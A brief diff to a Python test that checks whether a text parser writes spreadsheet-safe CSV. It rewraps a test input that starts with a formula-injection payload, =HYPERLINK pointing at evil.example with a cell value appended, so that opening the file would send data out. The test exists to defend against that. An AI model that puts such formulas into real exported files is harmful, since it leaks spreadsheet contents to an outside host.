@@ -260,8 +260,8 @@ def test_parse_drops_a_bom_from_title_and_excerpt(capsys, tmp_path) -> None:
 def test_parse_writes_spreadsheet_safe_csv(capsys, tmp_path) -> None:
     path = tmp_path / "formula.txt"
     path.write_text(
-        'Headline\n\n=HYPERLINK("http://evil.example/?d="&A2,"open")&" Rebels were fighting in Homs" '
-        "on Monday.\n",
+        'Headline\n\n=HYPERLINK("http://evil.example/?d="&A2,"open")&" Rebels were fighting '
+        'in Homs" on Monday.\n',
         encoding="utf-8",
     )
     code, out, _ = run(capsys, "parse", str(path), "--published", "2013-06-05",
